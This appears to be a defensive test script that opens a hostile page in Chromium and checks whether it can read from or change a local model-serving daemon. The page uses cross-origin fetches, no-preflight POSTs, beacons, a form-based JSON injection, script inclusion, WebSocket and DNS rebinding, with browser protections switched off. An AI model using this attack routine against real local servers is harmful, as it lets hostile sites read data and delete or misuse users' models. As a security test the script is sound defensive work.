// Opens a hostile page in Chromium and lets it try what pages can. Exit code 1 where it got anything out of the daemon,
// or where the same page got nothing out of a server that does not defend itself.
import http from "node:http";

import { chromium } from "playwright-core";

const rumbo = Number(process.env.RUMBO_PORT);
const secret = "rumbo-is-here";

// ---- The control: what the daemon would be without its checks ----
let mutations = 0;
const control = http.createServer((request, response) => {
  request.resume();
  if (request.method === "POST" || request.method === "DELETE") ++mutations;
  response.setHeader("access-control-allow-origin", request.headers.origin ?? "*");
  response.setHeader("access-control-allow-headers", "*");
  response.setHeader("access-control-allow-methods", "*");
  response.setHeader("access-control-allow-private-network", "true");
  if (request.method === "OPTIONS") return response.end();
  response.setHeader("content-type", request.url === "/v1/models" ? "application/javascript" : "application/json");
  response.end(request.url === "/v1/models" ? `window.stolen = "${secret}"` : JSON.stringify({ secret }));
});

// ---- The page: runs in the browser; returns what it could read ----
async function attack({ bases, rebound }) {
  const loot = [];
  const keep = (what, text) => {
    if (text && text.length > 0) loot.push(`${what}: ${text.slice(0, 120)}`);
  };
  const within = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 20000))]);
  const body = JSON.stringify({ model: "victim", name: "victim", prompt: "x", messages: [{ role: "user", content: "x" }], max_tokens: 1 });
  const posts = ["/v1/completions", "/v1/chat/completions", "/v1/messages", "/api/generate", "/api/chat", "/api/pull",
    "/rumbo/v1/ModelService/UnloadModel", "/rumbo/v1/InstanceService/ListInstances"];
  const quietly = async (what, get) => {
    try {
      keep(what, await within(get()));
    } catch {}
  };
  await Promise.all(bases.map(async (base) => {
    const tries = [];
    for (const path of ["/v1/models", "/metrics", "/api/tags", "/api/ps", "/props", "/health", "/"]) {
      for (const mode of ["cors", "no-cors"]) {
        tries.push(quietly(`fetch ${mode} ${base}${path}`, async () => (await fetch(base + path, { mode })).text()));
      }
    }
    for (const path of posts) {
      // Simple requests need no preflight: text/plain, form data, a beacon.
      for (const type of ["text/plain", "application/x-www-form-urlencoded", "application/json"]) {
        for (const mode of ["cors", "no-cors"]) {
          const init = { method: "POST", mode, headers: { "content-type": type }, body };
          tries.push(quietly(`post ${mode} ${type} ${base}${path}`, async () => (await fetch(base + path, init)).text()));
        }
      }
      navigator.sendBeacon(base + path, new Blob([body], { type: "text/plain" }));
    }
    const gone = { method: "DELETE", body: '{"model":"victim"}' };
    tries.push(quietly(`delete ${base}`, async () => (await fetch(base + "/api/delete", gone)).text()));
    await Promise.all(tries);
    await within(new Promise((resolve) => {
      const script = document.createElement("script");
      script.src = base + "/v1/models";
      script.onload = script.onerror = resolve;
      document.head.append(script);
    }));
    keep(`script ${base}`, window.stolen);
    delete window.stolen;
    await within(new Promise((resolve) => {
      const image = new Image();
      image.onload = () => { keep(`image ${base}`, "it loaded"); resolve(); };
      image.onerror = resolve;
      image.src = base + "/v1/models";
    }));
    await within(new Promise((resolve) => {
      const form = document.createElement("form");
      const frame = document.createElement("iframe");
      frame.name = "target" + base;
      frame.onload = () => {
        try {
          keep(`frame ${base}`, frame.contentDocument?.body?.innerText);
        } catch {}
        resolve();
      };
      document.body.append(frame, form);
      form.method = "POST";
      form.enctype = "text/plain";
      form.action = base + "/v1/completions";
      form.target = frame.name;
      const input = document.createElement("input");
      input.name = body.slice(0, -1) + ',"x":"';
      input.value = '"}';
      form.append(input);
      form.submit();
    }));
    await within(new Promise((resolve) => {
      const socket = new WebSocket(base.replace("http", "ws") + "/v1/models");
      socket.onopen = () => { keep(`websocket ${base}`, "it opened"); resolve(); };
      socket.onerror = resolve;
    }));
    await within(new Promise((resolve) => {
      const events = new EventSource(base + "/v1/models");
      events.onopen = () => { keep(`events ${base}`, "they opened"); events.close(); resolve(); };
      events.onerror = () => { events.close(); resolve(); };
    }));
  }));
  if (rebound) {
    // The name of this very page leads to the daemon now: every request is of the same origin.
    for (const path of ["/v1/models", "/metrics", "/api/tags", "/v1/completions"]) {
      try {
        const post = path === "/v1/completions";
        const response = await fetch(path, post ? { method: "POST", headers: { "content-type": "application/json" }, body } : {});
        if (response.ok) keep(`rebound ${path}`, await response.text());
      } catch {}
    }
  }
  return loot;
}

await new Promise((resolve) => control.listen(0, "127.0.0.1", resolve));
const open = control.address().port;
const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM,
  args: [
    "--no-sandbox",
    "--host-resolver-rules=MAP evil.test 127.0.0.1",
    // The browser's own guard asks the user; the daemon must not need it.
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights",
  ],
});

// A page of `origin`, whose first document is the attacker's; everything else goes where the name leads.
async function visit(origin, target, rebound) {
  const page = await browser.newPage();
  await page.route(`${origin}/attack`, (route) => route.fulfill({ contentType: "text/html", body: "<body>hostile</body>" }));
  await page.goto(`${origin}/attack`);
  await page.unroute(`${origin}/attack`);  // from here on nothing stands between the page and the network
  const bases = [`http://127.0.0.1:${target}`, `http://localhost:${target}`, `http://0.0.0.0:${target}`];
  const loot = await page.evaluate(attack, { bases, rebound });
  await page.close();
  return loot;
}

let failed = false;
const fail = (text) => {
  failed = true;
  console.log("FAILED: " + text);
};

try {
  // From another site; from another port of this machine; by a name that the attacker's DNS turned to loopback.
  for (const [name, origin, rebound] of [
    ["another site", "http://evil.test:8080", false],
    ["another local app", "http://localhost:8080", false],
    ["rebinding", `http://evil.test:${rumbo}`, true],
  ]) {
    const loot = await visit(origin, rumbo, rebound);
    if (loot.length > 0) fail(`${name} got\n  ` + loot.join("\n  "));
    else console.log(`${name}: nothing`);
  }
  // A link to the daemon is followed by users all the time; a page that opens it by the wrong name sees no model.
  const page = await browser.newPage();
  const response = await page.goto(`http://evil.test:${rumbo}/v1/models`);
  if (response.status() !== 403) fail(`opening it by a foreign name gave ${response.status()}`);
  if ((await page.content()).includes("victim")) fail("a foreign name shows models");
  await page.close();

  const loot = await visit("http://evil.test:8080", open, false);
  const rebound = await visit(`http://evil.test:${open}`, open, true);
  for (const way of ["fetch", "post cors", "script", "delete"]) {
    if (!loot.some((line) => line.startsWith(way))) fail(`the undefended server gave nothing by ${way}: the page is no attack`);
  }
  if (!rebound.some((line) => line.startsWith("rebound"))) fail("rebinding does not work at all here");
  if (mutations < 10) fail(`the undefended server saw ${mutations} changes`);
  console.log(`without checks: ${loot.length + rebound.length} reads, ${mutations} changes`);
} finally {
  await browser.close();
  control.close();
}
process.exit(failed ? 1 : 0);
